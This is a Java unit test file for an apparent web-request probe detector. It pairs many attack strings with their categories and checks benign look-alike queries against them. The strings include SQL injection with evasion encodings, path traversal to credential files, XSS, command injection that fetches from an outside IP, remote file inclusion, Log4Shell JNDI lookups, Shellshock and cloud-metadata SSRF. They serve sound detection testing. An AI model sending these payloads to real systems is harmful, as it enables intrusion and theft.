package io.gatewatch.ingest.probes;

import static io.gatewatch.ingest.Exposure.Place.PATH;
import static io.gatewatch.ingest.Exposure.Place.QUERY;
import static io.gatewatch.ingest.Exposure.Place.REFERER;
import static io.gatewatch.ingest.Exposure.Place.USER_AGENT;
import static org.assertj.core.api.Assertions.assertThat;

import io.gatewatch.ingest.Exposure.Place;
import io.gatewatch.ingest.Probe.Kind;
import java.util.EnumSet;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Texts that are probes, and texts that look like them and are not. */
class ProbeJudgeTest {
  private final ProbeJudge judge = new ProbeJudge();

  @ParameterizedTest
  @CsvSource(
      delimiterString = " => ",
      quoteCharacter = '\u0001',
      textBlock =
          """
          ?q=1'+OR+'1'='1 => SQL_INJECTION
          ?q=1'%20or%20''=' => SQL_INJECTION
          ?id=5+or+2>1 => SQL_INJECTION
          ?id=1+UNION+SELECT+username,password+FROM+users => SQL_INJECTION
          ?id=1/**/UnIoN/*x*/SeLeCt/**/null => SQL_INJECTION
          ?id=1/*!50000union*//*!50000select*/1 => SQL_INJECTION
          ?id=1%0aunion%0aselect%0a1 => SQL_INJECTION
          ?id=1%2527%2520or%25201%253D1 => SQL_INJECTION
          ?id=%u0027+or+1=1 => SQL_INJECTION
          ?id=\\u0027+or+1=1 => SQL_INJECTION
          ?id=%ef%bc%87+or+1=1--+ => SQL_INJECTION
          ?id=1';WAITFOR+DELAY+'0:0:5'-- => SQL_INJECTION
          ?id=1)+AND+SLEEP(5)%23 => SQL_INJECTION
          ?user=admin'--&x=1 => SQL_INJECTION
          ?id=1;DROP+TABLE+users => SQL_INJECTION
          ?file=../../../../etc/hosts => PATH_TRAVERSAL
          ?file=..%2f..%2f..%2fetc%2fshadow => PATH_TRAVERSAL
          ?file=%252e%252e%252fsecret => PATH_TRAVERSAL
          ?file=....//....//x => PATH_TRAVERSAL
          ?file=..\\..\\windows\\win.ini => PATH_TRAVERSAL
          ?q=<ScRiPt>alert(1)</sCrIpT> => CROSS_SITE_SCRIPTING
          ?q=%3Csvg/onload=alert`1`> => CROSS_SITE_SCRIPTING
          ?q=%uff1cimg+src=x => CROSS_SITE_SCRIPTING
          ?q="+onfocus=prompt(1)+x=" => CROSS_SITE_SCRIPTING
          ?next=javascript:alert(document.domain) => CROSS_SITE_SCRIPTING
          ?ip=127.0.0.1;cat+/x => COMMAND_INJECTION
          ?ip=%26%26+ping+-c+3+198.18.0.77 => COMMAND_INJECTION
          ?q=$(sleep+5) => COMMAND_INJECTION
          ?q=`whoami` => COMMAND_INJECTION
          ?q=x|curl%20http://198.18.0.1/a => COMMAND_INJECTION
          ?q={{7*7}} => TEMPLATE_INJECTION
          ?q=%24%7B81*9%7D => TEMPLATE_INJECTION
          ?q=<%25=+7*7+%25> => TEMPLATE_INJECTION
          ?q=${jndi:${lower:l}dap://x/a} => TEMPLATE_INJECTION
          ?page=php://filter/convert.base64-encode/resource=index => FILE_INCLUSION
          ?page=http://198.18.0.1/shell.txt? => FILE_INCLUSION
          ?url=file:///x => FILE_INCLUSION
          ?url=http://169.254.169.254/latest/meta-data => REQUEST_FORGERY
          ?next=/%0d%0aSet-Cookie:+a=b => HEADER_INJECTION
          ?author=2 => KNOWN_EXPLOIT
          """)
  void aQueryThatIsAProbe(String query, Kind kind) {
    assertThat(kinds(query, QUERY)).contains(kind);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "?lastName=O'Brien",
        "?q=Cote+d'or+and+wine",
        "?q=rock+'n'+roll+or+jazz",
        "?q=select+account+from+list",
        "?q=drop+table+saw+and+delete+old+from+list",
        "?q=European+Union+Select+Committee,+2019",
        "?q=insert+into+the+union+of+savings+or+current",
        "?$filter=amount+gt+5+and+name+eq+'x'",
        "?$filter=status+eq+'a'+or+status+eq+'b'+and+amount+ge+10",
        "?filter[status][$ne]=closed",
        "?jql=project+=+'X'+and+status+=+5+or+priority+=+'high'",
        "?where=name='x'+and+amount=5",
        "?sql=SELECT+Id+FROM+Account+WHERE+Name='x'",
        "?filter={\"name\":\"O'Brien\",\"or\":[{\"a\":1},{\"b\":2}]}",
        "?filter=%7B%22and%22%3A%5B%7B%22amount%22%3A%7B%22gt%22%3A5%7D%7D%5D%7D",
        "?token=aGVsbG8gd29ybGQnIG9yIDE9MQ==",
        "?range=[1.0..2.0)&items=1..5&v=../v2",
        "?img=../../assets/logo.png",
        "?url=https://x.example/a/../b?x=1",
        "?redirect_uri=https://app.example/cb?",
        "?memo=Rent--thanks+'Bob'--landlord",
        "?period=2024-01-01--2024-02-01",
        "?q=alert(s)+for+my+account",
        "?q=benchmark(s)+2024",
        "?expr=a<b+and+c>d",
        "?note=<b>bold</b>",
        "?callback=x&onload=initMap",
        "?fields=name|id|status;sort;ls",
        "?template={{accountId}}&who=${customer}",
        "?size=3*4&mode=*{all}",
        "?q=how+to+sleep+(well)",
        "?text=a%0ab%0aNote:+c",
        "?q=100%25+off+%26+more",
        "?tag=%23a&tag=C%2B%2B",
      })
  void aQueryThatOnlyLooksLikeOne(String query) {
    assertThat(kinds(query, QUERY)).isEmpty();
  }

  @Test
  void inAPathAnEscapedClimbIsAProbeAndARelativeLinkIsNone() {
    assertThat(kinds("/docs/%2e%2e/secret", PATH)).containsExactly(Kind.PATH_TRAVERSAL);
    assertThat(kinds("/docs/%c0%ae%c0%ae/secret", PATH)).containsExactly(Kind.PATH_TRAVERSAL);
    assertThat(kinds("/a/%%32%65%%32%65/b", PATH)).containsExactly(Kind.PATH_TRAVERSAL);
    assertThat(kinds("/a/../../../b", PATH)).containsExactly(Kind.PATH_TRAVERSAL);
    assertThat(kinds("/a/..;/b", PATH)).containsExactly(Kind.PATH_TRAVERSAL);
    assertThat(kinds("/logo%00.png", PATH)).containsExactly(Kind.PATH_TRAVERSAL);
    assertThat(kinds("/docs/../img/a.png", PATH)).isEmpty();
    assertThat(kinds("/a/b/../../c", PATH)).isEmpty();
    assertThat(kinds("/versions/1..2", PATH)).isEmpty();
    assertThat(kinds("/javascript:void(0)", PATH)).isEmpty();
    assertThat(kinds("/names/O%27Brien", PATH)).isEmpty();
  }

  @Test
  void knownTargetsAreNamedWholeAndOnlyInPaths() {
    assertThat(kinds("/.env", PATH)).containsExactly(Kind.SENSITIVE_FILE);
    assertThat(kinds("/app/.git/config", PATH)).containsExactly(Kind.SENSITIVE_FILE);
    assertThat(kinds("/wp-login.php", PATH)).containsExactly(Kind.KNOWN_EXPLOIT);
    assertThat(kinds("/nwa", PATH)).containsExactly(Kind.KNOWN_EXPLOIT);
    assertThat(kinds("/.environment", PATH)).isEmpty();
    assertThat(kinds("/nwas/nwa", PATH)).isEmpty();
    assertThat(kinds("/reports/monthly.sqlx", PATH)).isEmpty();
    assertThat(kinds("?path=/.env", QUERY)).isEmpty();
    assertThat(kinds("?author=smith", QUERY)).isEmpty();
  }

  @Test
  void aUserAgentIsReadForWhatItCarriesAndForWhoItSaysItIs() {
    assertThat(kinds("() { :; }; /bin/cat /x", USER_AGENT)).contains(Kind.COMMAND_INJECTION);
    assertThat(kinds("${${::-j}ndi:ldap://x/a}", USER_AGENT))
        .containsExactly(Kind.TEMPLATE_INJECTION);
    assertThat(kinds("Mozilla/5.00 (Nikto/2.1.5)", USER_AGENT)).containsExactly(Kind.SCANNER);
    assertThat(kinds("Mozilla/5.0 (Windows; U; Windows NT 5.1; id; rv:1.9) Gecko", USER_AGENT))
        .isEmpty();
    assertThat(kinds("app/1 (+https://x.example/bot.html; sh; ls)", USER_AGENT)).isEmpty();
  }

  @Test
  void aSearchForAnAttackIsNoAttackOfThePageItLedTo() {
    assertThat(kinds("https://s.example/?q=cat+/etc/passwd+../../../", REFERER)).isEmpty();
    assertThat(kinds("${jndi:ldap://x/a}", REFERER)).containsExactly(Kind.TEMPLATE_INJECTION);
  }

  @Test
  void everyWordThatShipsIsFoundSomewhere() {
    for (ProbeWord word : ProbeWords.shipped()) {
      assertThat(word.text()).isNotEmpty();
      assertThat(word.places()).isNotZero();
    }
  }

  private Set<Kind> kinds(String text, Place place) {
    int bits =
        place == USER_AGENT ? judge.inUserAgent(text) : judge.in(text, 0, text.length(), place);
    EnumSet<Kind> kinds = EnumSet.noneOf(Kind.class);
    for (Kind kind : Kind.values()) {
      if ((bits & ProbeJudge.bit(kind)) != 0) {
        kinds.add(kind);
      }
    }
    return kinds;
  }
}
